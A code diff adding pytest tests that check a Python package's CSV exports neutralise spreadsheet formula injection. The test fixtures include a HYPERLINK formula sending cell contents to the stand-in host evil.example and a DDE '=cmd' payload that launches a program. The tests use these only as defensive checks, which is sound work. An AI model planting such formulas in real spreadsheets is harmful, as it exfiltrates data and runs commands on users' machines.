@@ -78,3 +78,36 @@ def test_a_file_named_like_data_but_not_read_is_named(data_dir, capsys):
         assert main(["validate", "--data", str(data_dir)]) == 0
     err = capsys.readouterr().err
     assert err.startswith("warning: ") and "observations-2024.txt" in err and "not read" in err
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+
+
+def test_indicators_csv_runs_no_formula(tmp_path):
+    """OWASP's rule: a cell that starts with = + - @ tab or CR gets a leading apostrophe; numbers stay numbers."""
+    import csv
+
+    import pandas as pd
+
+    from impact_kit.portfolio import write_indicators_csv
+
+    table = pd.DataFrame({"site": [f"s{i}" for i in range(len(FORMULAS))], "name": FORMULAS, "intensity": [-1.0] * 6})
+    for excel in (False, True):
+        path = write_indicators_csv(table, tmp_path / f"indicators-{excel}.csv", excel=excel)
+        with path.open(encoding="utf-8-sig", newline="") as handle:
+            rows = list(csv.DictReader(handle, delimiter=";" if excel else ","))
+        assert [row["name"] for row in rows] == ["'" + f for f in FORMULAS]
+        assert {row["intensity"] for row in rows} == {"-1"}
+
+
+def test_a_charts_csv_download_runs_no_formula():
+    import urllib.parse
+
+    import pandas as pd
+
+    from impact_kit.figures import csv_data_uri
+
+    data = pd.DataFrame({"=cmd|' /C calc'!A0": [1, 2]}, index=pd.Index(["@SUM(1)", "-x"], name="site"))
+    text = urllib.parse.unquote(csv_data_uri(data).split(",", 1)[1])
+    assert "'=cmd" in text and "'@SUM(1)" in text and "'-x" in text
+    assert not any(line.startswith(("=", "+", "-", "@")) for cell in text.splitlines() for line in cell.split(","))
